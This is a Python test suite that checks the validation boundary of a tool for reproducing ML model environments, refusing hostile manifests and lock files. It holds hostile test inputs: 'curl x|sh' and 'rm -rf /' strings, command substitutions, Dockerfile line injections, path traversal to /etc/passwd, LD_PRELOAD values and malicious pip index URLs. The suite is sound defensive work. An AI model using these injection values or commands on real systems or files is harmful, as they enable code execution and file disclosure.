"""The boundary that reads a capture (sidecar/schema.py, sidecar/locktrust.py): every value of a
capture is untrusted; malformed or hostile ones are one line, exit 2, never a traceback."""
import copy
import os
import subprocess
import sys

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from envrepro.errors import InvalidCapture
from envrepro.sidecar import layout, locktrust, manifest, schema, writer
from envrepro.image import ensure as images
from envrepro.packages import platforms
from envrepro.sandbox import loadplan as plan

from fakes import make_capture

H = "a" * 64
PROPS = settings(max_examples=150, deadline=None, derandomize=True, database=None,
                 suppress_health_check=list(HealthCheck))
HOSTILE = ["1.2.3\nFROM evil AS x\nRUN curl x|sh", "x'; rm -rf / #", "$(touch /tmp/pwn)", "`id`",
           "https://evil.example/x.whl", "../../etc/passwd", "/etc/passwd", "a b", "\x00", "tight",
           "3.8.18 ", "file:///etc/passwd", "x\r\ny"]

# A complete manifest as envrepro writes it (capture.build_manifest + writer's files).
VALID = {
    "schema": "envrepro/v1", "envrepro_version": "0.1.0", "created": "2026-01-01T00:00:00Z", "inferred": False,
    "model": {"name": "m.h5", "format": "h5", "class_name": "Sequential", "sha256": H},
    "python": {"version": "3.8.18", "implementation": "CPython", "sys_platform": "linux", "machine": "x86_64",
               "libc": ["glibc", "2.31"]},
    "frameworks": {"tensorflow": "2.4.1", "tensorflow_distribution": "tensorflow-cpu", "keras": "2.4.0",
                   "keras_flavor": "tf.keras", "tf_keras": None, "git_version": "v2.4.0-49-g85c8b2a817f",
                   "build": {"cuda_version": "11.0", "is_cuda_build": False}},
    "env": {"TF_USE_LEGACY_KERAS": "1", "KERAS_BACKEND": None},
    "load": {"compile": True, "custom_objects": {"MyLayer": "layers:MyLayer", "team>Huberish": "losses:Huberish"},
             "modules": ["layers", "losses"], "recipe": "revive",
             "recipes_failed": [{"recipe": "custom_objects", "error": "ValueError: Unknown layer"}]},
    "lock": {"file": "requirements.lock", "requirements_in": "requirements.in", "sha256": H, "distributions": 1,
             "hashes": True, "hashes_reason": "index", "missing_hashes": [], "sdist_only": None,
             "top_level": ["tensorflow-cpu"], "platform": "linux_x86_64",
             "local": [{"name": "mylib", "version": "0.1", "kind": "local", "source": "/src/mylib",
                        "wheel": "wheels/mylib-0.1-py3-none-any.whl", "sha256": H}]},
    "snapshot": {"dir": "snapshot", "modules": {"layers": "layers"},
                 "files": [{"path": "snapshot/layers.py", "sha256": H, "origin": "/src/layers.py"}],
                 "refused_links": []},
    "requirement_modules": {"losses": "team-losses"},
    "reference": {"inputs": ["reference/input_0.npy"], "outputs": ["reference/output_0.npy"],
                  "input_structure": "single", "input_names": ["x"], "output_structure": "dict",
                  "output_names": ["y"], "tolerance": {"atol": 1e-05, "rtol": 0.0001},
                  "vocabularies": {"x": "tv (TextVectorization, 12 tokens)"}, "free_dimension": 8},
    "reference_skipped": None,
    "optimizer": {"class": "Adam", "config": {"lr": 0.001}, "iterations": 12, "state_saved": True,
                  "num_weights": 5, "saved_variables": 5, "saved_iterations": None,
                  "restored": {"class": "Adam", "iterations": 12, "variables": 5, "via": "load_model"}},
    "resume_check": {"skipped": "no optimizer state in the file"},
    "inference": {"reasons": ["TensorFlow 2.4 from the file"], "requirements": ["tensorflow==2.4.1"],
                  "constraints": [], "resolved_by": "pip 23.0", "custom_classes_missing": [], "interpreter": None},
    "warnings": ["something could not be done"],
    "files": {"requirements.lock": H, "snapshot/layers.py": H, "reference/input_0.npy": H},
}


def refused(data):
    with pytest.raises(InvalidCapture) as err:
        schema.check(data, "x/envrepro.yaml")
    line = str(err.value)
    assert "\n" not in line and err.value.exit_code == 2
    return line


def with_value(path, value, base=VALID):
    data = copy.deepcopy(base)
    cur = data
    for part in path[:-1]:
        cur = cur[part]
    cur[path[-1]] = value
    return data


def test_a_complete_manifest_passes():
    assert schema.check(copy.deepcopy(VALID), "x") == VALID


@pytest.mark.parametrize("path, value, expect", [
    (("env",), ["x"], "env: expected a mapping, got list"),
    (("reference", "tolerance", "atol"), "tight", "reference.tolerance.atol: expected a non-negative number, got 'tight'"),
    (("python", "version"), "3.8.18\nFROM evil", "python.version: expected a Python version X.Y.Z"),
    (("python", "version"), "3.8", "python.version"),
    (("python", "version"), "3.8.x", "python.version"),
    (("env",), {"LD_PRELOAD": "/tmp/x.so"}, "env.LD_PRELOAD: key: expected one of"),
    (("env",), {"ENVREPRO_PLAN": "{}"}, "env.ENVREPRO_PLAN"),
    (("env",), {"PYTHONPATH": "/tmp"}, "env.PYTHONPATH"),
    (("env",), {"KERAS_BACKEND": "jax; rm -rf /"}, "env.KERAS_BACKEND"),
    (("files",), {"../outside": H}, "files"),
    (("files",), {"/etc/passwd": H}, "files"),
    (("files",), {"requirements.lock": "x"}, "sha256"),
    (("reference", "inputs"), ["../../etc/passwd.npy"], "reference.inputs.0"),
    (("reference", "inputs"), ["/abs/input.npy"], "reference.inputs.0"),
    (("reference", "vocabularies"), {"x": "a\nb"}, "reference.vocabularies.x: expected one line of text"),
    (("reference", "free_dimension"), "8", "reference.free_dimension: expected a count"),
    (("snapshot", "files"), [{"path": "snapshot/../x.py"}], "snapshot.files.0.path"),
    (("lock", "top_level"), ["https://evil.example/x.whl"], "lock.top_level.0"),
    (("lock", "top_level"), ["Tensorflow_CPU"], "canonical"),
    (("lock", "local"), [{"name": "x", "wheel": "../x.whl"}], "lock.local.0.wheel"),
    (("frameworks", "tensorflow"), "2.4.1; evil", "frameworks.tensorflow: expected a PEP 440 version"),
    (("load", "recipe"), "eval", "load.recipe"),
    (("load", "custom_objects"), {"X": "os:system; x"}, "load.custom_objects.X"),
    (("load", "modules"), ["os; import x"], "load.modules.0"),
    (("load", "lambdas"), [{"source": "lambda x: x"}], "load.lambdas.0: required key 'layer'"),
    (("load", "lambdas"), [{"layer": "l", "kind": "exec"}], "load.lambdas.0.kind"),
    (("load", "lambdas"), [{"layer": "l", "globals": {"os; x": {"module": "os"}}}],
     "load.lambdas.0.globals.os; x: key: expected a Python name"),
    (("load", "lambdas"), [{"layer": "l", "globals": {"m": {"module": "os; import x"}}}],
     "load.lambdas.0.globals.m.module"),
    (("load", "lambdas"), [{"layer": "l", "globals": {"m": {"module": "os", "value": 1}}}],
     "load.lambdas.0.globals.m: expected one of"),
    (("load", "lambdas"), [{"layer": "l", "globals": {"m": {"value": [1, 2]}}}],
     "load.lambdas.0.globals.m.value"),
    (("load", "lambdas"), [{"layer": "l", "globals": {"m": {"object": "os.system"}}}],
     "load.lambdas.0.globals.m.object"),
    (("load", "lambdas"), [{"layer": "l", "source": "x" * 5000}], "load.lambdas.0.source: expected text"),
    (("optimizer", "saved_variables"), -1, "optimizer.saved_variables"),
    (("optimizer", "restored"), {"iterations": "2"}, "optimizer.restored.iterations: expected a count"),
    (("optimizer", "restored"), {"via": "eval"}, "optimizer.restored.via"),
    (("optimizer", "restored_skipped"), ["x"], "optimizer.restored_skipped: expected text"),
    (("resume_check",), {"skipped": 3}, "resume_check.skipped"),
    (("inference",), {"reasons": "x"}, "inference.reasons"),
    (("model",), {"format": "h5"}, "model: required key 'name'"),
])
def test_each_field_is_checked_and_named(path, value, expect):
    line = refused(with_value(path, value))
    assert expect in line and "envrepro capture MODEL" in line


@pytest.mark.parametrize("text", [
    "--index-url https://evil.example/simple\nsix==1.16.0\n",
    "--extra-index-url https://evil.example/simple\nsix==1.16.0\n",
    "--trusted-host evil.example\nsix==1.16.0\n",
    "--find-links https://evil.example/\nsix==1.16.0\n",
    "--no-binary :all:\nsix==1.16.0\n",
    "-e git+https://evil.example/x#egg=x\n",
    "-r other.txt\n", "-c constraints.txt\n",
    "https://evil.example/x.whl\n",
    "six @ file:///etc/passwd\n",
    "six @ file:///envrepro/capture/wheels/../../x.whl\n",
    "six @ ftp://evil.example/six.whl\n", "six @ git+file:///tmp/repo\n",
    "./local/path\n",
    "Six==1.16.0\n", "six>=1.16.0\n", "six==1.16.*\n", "six[extra]==1.0\n", "six==1.16.0 --hash=md5:abc\n",
    "six==1.16.0 \\\n    --hash=sha256:xyz\n", "six==1.16.0 --index-url x\n", "six==1.16.0\n# setuptools==$(id)\n",
])
def test_lock_refuses_what_envrepro_does_not_write(text):
    with pytest.raises(InvalidCapture) as err:
        text = text.replace("# setuptools", "\n" + "# The following packages are considered to be unsafe in a "
                            "requirements file:\n# setuptools")
        locktrust.check_lock(text, "x/requirements.lock")
    assert "\n" not in str(err.value) and "lock line" in str(err.value)


def test_lock_accepts_what_envrepro_writes():
    text = ("#\n# This file is autogenerated by envrepro\n#\n"
            f"mylib @ file:///envrepro/capture/wheels/mylib-0.1%2Blocal-py3-none-any.whl \\\n    --hash=sha256:{H}\n"
            "    # via -r requirements.in\n"
            f"six==1.16.0 \\\n    --hash=sha256:{H} \\\n    --hash=sha256:{'b' * 64}\n    # via\n    #   a\n    #   b\n"
            "tools @ git+https://github.com/x/tools@0123abc\n"
            "arch @ https://files.example/arch-1.0.tar.gz\n"
            'typing-extensions==4.0.0 ; python_version < "3.8"\n'
            "\n# The following packages are considered to be unsafe in a requirements file:\n# setuptools==59.6.0\n")
    locktrust.check_lock(text, "x")


# -- property tests ----------------------------------------------------------------------------
scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=20),
                    st.sampled_from(HOSTILE))
values = st.recursive(scalars, lambda inner: st.one_of(st.lists(inner, max_size=3),
                                                       st.dictionaries(st.text(max_size=8), inner, max_size=3)),
                      max_leaves=8)


def _paths(data, prefix=()):
    yield prefix
    if isinstance(data, dict):
        for k, v in data.items():
            yield from _paths(v, prefix + (k,))
    elif isinstance(data, list):
        for i, v in enumerate(data):
            yield from _paths(v, prefix + (i,))


ALL_PATHS = [p for p in _paths(VALID) if p]


segments = st.from_regex(r"\A[A-Za-z0-9_][A-Za-z0-9_.-]{0,12}\Z").filter(lambda p: ".." not in p)
valid_manifests = st.fixed_dictionaries({
    "python_version": st.from_regex(r"\A[0-9]{1,2}\.[0-9]{1,2}\.[0-9]{1,2}(rc[0-9])?\Z"),
    "tf": st.from_regex(r"\A[0-9]{1,2}\.[0-9]{1,2}\.[0-9]{1,2}\Z"),
    "top": st.lists(st.from_regex(r"\A[a-z][a-z0-9]{0,8}(-[a-z0-9]{1,5})?\Z"), max_size=4),
    "env": st.dictionaries(st.sampled_from(sorted(schema.ENV_ALLOWED)),
                           st.one_of(st.none(), st.from_regex(r"\A[A-Za-z0-9_.]{0,10}\Z")), max_size=2),
    "tol": st.tuples(st.floats(0, 1), st.floats(0, 1)),
    "inputs": st.lists(segments.map(lambda p: f"reference/{p}.npy"), min_size=1, max_size=3),
    "files": st.dictionaries(st.lists(segments, min_size=1, max_size=3).map("/".join),
                             st.from_regex(r"\A[0-9a-f]{64}\Z"), max_size=4),
    "warnings": st.lists(st.text(max_size=40), max_size=3),
})


@PROPS
@given(gen=valid_manifests)
def test_generated_valid_manifests_pass_and_round_trip(gen):
    data = copy.deepcopy(VALID)
    data["python"]["version"] = gen["python_version"]
    data["frameworks"]["tensorflow"] = gen["tf"]
    data["lock"]["top_level"] = gen["top"]
    data["env"] = gen["env"]
    data["reference"]["tolerance"] = {"atol": gen["tol"][0], "rtol": gen["tol"][1]}
    data["reference"]["inputs"] = gen["inputs"]
    data["files"] = gen["files"]
    data["warnings"] = [w for w in gen["warnings"] if "\x00" not in w]
    assert schema.check(data, "x") is data
    again = yaml.safe_load(manifest.dump(data))
    assert again == data and schema.check(again, "x") == data


@PROPS
@given(path=st.sampled_from(ALL_PATHS), value=values)
def test_mutated_manifests_are_refused_or_pass_only_the_bad_capture_error(path, value):
    data = with_value(path, value)
    try:
        checked = schema.check(data, "x")
    except InvalidCapture as e:
        assert "\n" not in str(e) and e.exit_code == 2
        return
    # What gets through is as good as what envrepro writes: the strict fields hold.
    assert schema.PYTHON_VERSION_RE.match(checked["python"]["version"])
    assert set(checked.get("env") or {}) <= schema.ENV_ALLOWED
    assert all(".." not in k.split("/") and not k.startswith("/") for k in checked["files"])


@PROPS
@given(top=st.dictionaries(st.sampled_from(sorted(VALID)), values, max_size=6))
def test_random_top_levels_never_crash_the_check(top):
    try:
        schema.check(dict(top, schema="envrepro/v1"), "x")
    except InvalidCapture as e:
        assert "\n" not in str(e)


names = st.from_regex(r"\A[a-z][a-z0-9-]{0,10}[a-z0-9]\Z").filter(lambda n: "--" not in n)
versions = st.from_regex(r"\A[0-9]{1,3}(\.[0-9]{1,3}){0,3}\Z")


@PROPS
@given(pins=st.lists(st.tuples(names, versions, st.booleans()), max_size=6, unique_by=lambda p: p[0]))
def test_generated_envrepro_locks_pass(pins):
    text = "".join(f"{n}=={v}" + (f" \\\n    --hash=sha256:{H}" if h else "") + "\n" for n, v, h in pins)
    locktrust.check_lock(text, "x")


@PROPS
@given(text=st.one_of(st.text(max_size=200),
                      st.lists(st.one_of(st.sampled_from(HOSTILE + ["six==1.0", "--index-url x", "-e .", "\\"]),
                                         st.text(max_size=30)), max_size=8).map("\n".join)))
def test_any_lock_text_is_refused_cleanly_or_has_only_plain_pins(text):
    try:
        locktrust.check_lock(text, "x")
    except InvalidCapture as e:
        assert "\n" not in str(e)
        return
    from envrepro.sidecar import lockfile
    for e in lockfile.parse_lock(text, include_unsafe=True):
        assert schema.is_name(e.name) and not any(c in e.requirement for c in "\n$`'")


@PROPS
@given(path=st.sampled_from(ALL_PATHS), value=values)
def test_mutated_captures_on_disk_read_or_refuse_and_plan_cleanly(tmp_path_factory, path, value):
    base = make_capture(tmp_path_factory.mktemp("c"))
    data = with_value(path, value)
    data.pop("files", None)
    writer.write_manifest(base.root, data)
    try:
        cap = manifest.read(base.root, verify=False)
    except InvalidCapture as e:
        assert "\n" not in str(e)
        return
    plan.make_plan(cap, plan.container_paths(cap))
    if not platforms.is_foreign(cap):       # (a foreign one would resolve its lock with pip)
        text = images.dockerfile_for(cap)
        assert all(line.startswith(("FROM", "ARG", "ENV", "RUN", "COPY", "LABEL", "USER", "WORKDIR", "#",
                                    " ", "SHELL", "ENTRYPOINT", "CMD")) or not line.strip()
                   for line in text.splitlines()), text


@pytest.mark.parametrize("text, expect", [
    ("schema: envrepro/v1\nreference: {tolerance: {atol: 1%s}}\n" % ("0" * 5000), "manifest is unreadable"),
    ("schema: envrepro/v1\noptimizer: {config: &x [*x]}\n", "optimizer.config: expected plain data"),
    ("schema: envrepro/v1\nwarnings: &x [*x]\n", "warnings.0: expected text"),
    ("schema: envrepro/v1\noptimizer: {config: " + "[" * 40 + "]" * 40 + "}\n", "optimizer.config"),
    ("schema: envrepro/v1\nenv: {1: x}\n", "env: expected text keys"),
    ("schema: envrepro/v1\nunknown: &x [*x]\n", "(top): expected plain data"),
    ("schema: envrepro/v1\nfiles: {a: !!binary aGk=}\n", "files.a: expected a sha256"),
    ("schema: envrepro/v1\nreference: {tolerance: {atol: .nan, rtol: 0}, inputs: [], outputs: []}\n",
     "reference.tolerance.atol"),
])
def test_hostile_yaml_is_one_line(tmp_path, text, expect):
    cap = make_capture(tmp_path)
    (cap.root / layout.MANIFEST).write_text(text)
    with pytest.raises(InvalidCapture) as err:
        manifest.read(cap.root, verify=False)
    assert expect in str(err.value) and "\n" not in str(err.value)


# -- the capture tree --------------------------------------------------------------------------
def test_a_symlink_anywhere_in_the_capture_is_refused(tmp_path):
    cap = make_capture(tmp_path)
    os.symlink("/etc/passwd", cap.root / "snapshot" / "evil.py")
    for verify in (True, False):
        with pytest.raises(InvalidCapture, match="symbolic link"):
            manifest.read(cap.root, verify=verify)


def test_a_listed_path_outside_the_capture_is_refused(tmp_path):
    cap = make_capture(tmp_path)
    data = dict(cap.data)
    data["files"] = dict(data["files"], **{"../outside.txt": H})
    (tmp_path / "outside.txt").write_text("x")
    (cap.root / layout.MANIFEST).write_text(yaml.safe_dump(data))
    with pytest.raises(InvalidCapture, match=r"files\.\['\.\./outside\.txt'\]"):
        manifest.read(cap.root)


def test_fixture_capture_passes_and_its_env_is_allowlisted(tmp_path):
    cap = make_capture(tmp_path)
    assert plan.captured_env(cap) == {"TF_USE_LEGACY_KERAS": "1"}


# -- the reproductions, through the CLI --------------------------------------------------------
def cli(*args):
    env = dict(os.environ)
    env.pop("ENVREPRO_DEBUG", None)
    return subprocess.run([sys.executable, "-m", "envrepro", *map(str, args)], capture_output=True, text=True,
                          env=env, timeout=120)


def hostile_capture(tmp_path, lock=None, **overrides):
    cap = make_capture(tmp_path)
    if lock is not None:
        (cap.root / "requirements.lock").write_text(lock)
    data = dict(cap.data, **overrides)
    data.pop("files")
    writer.write_manifest(cap.root, data)     # re-sealed: the seal is no defence
    return cap


@pytest.mark.parametrize("overrides, lock, expect", [
    ({"env": ["x"]}, None, "env: expected a mapping"),
    ({"reference": dict(VALID["reference"], tolerance={"atol": "tight", "rtol": 0.0})}, None,
     "reference.tolerance.atol"),
    ({"python": {"version": "3.8.18\nFROM alpine AS evil\nRUN id"}}, None, "python.version"),
    ({"env": {"LD_PRELOAD": "/x.so"}}, None, "env.LD_PRELOAD"),
    ({}, "--index-url https://evil.example/simple\ntensorflow-cpu==2.4.1\n", "option '--index-url'"),
    ({}, "-e git+https://evil.example/x#egg=x\n", "option '-e'"),
    ({}, "https://evil.example/x.whl\n", "lock line"),
    ({}, "tensorflow-cpu==2.4.1\nx$(id)==1.0\n", "lock line 2"),
    ({}, 'six==1.0 ; python_version < "3"\nsix==1\'; id\n', "lock line"),
])
@pytest.mark.parametrize("command", ["inspect", "dockerfile"])
def test_hostile_captures_exit_2_with_one_line(tmp_path, overrides, lock, expect, command):
    cap = hostile_capture(tmp_path, lock=lock, **overrides)
    out = cli(command, cap.model_path)
    assert out.returncode == 2, out.stderr
    assert len(out.stderr.strip().splitlines()) == 1 and "Traceback" not in out.stderr
    assert expect in out.stderr, out.stderr


@pytest.mark.parametrize("where", ["snapshot/__pycache__/custom_layers.cpython-38.pyc", "snapshot/custom_layers.pyc"])
def test_bytecode_in_a_capture_is_refused(tmp_path, where):
    """A .pyc is never sealed, and Python runs it instead of the checked source when its header
    matches the source's size and mtime: a capture holding one is refused, named."""
    cap = make_capture(tmp_path)
    (cap.root / where).parent.mkdir(parents=True, exist_ok=True)
    (cap.root / where).write_bytes(b"\x55\x0d\x0d\x0a" + b"\0" * 12 + b"evil")
    with pytest.raises(InvalidCapture, match="compiled bytecode") as e:
        manifest.read(cap.root)
    assert where.split("/")[-1] in str(e.value) or "__pycache__" in str(e.value)
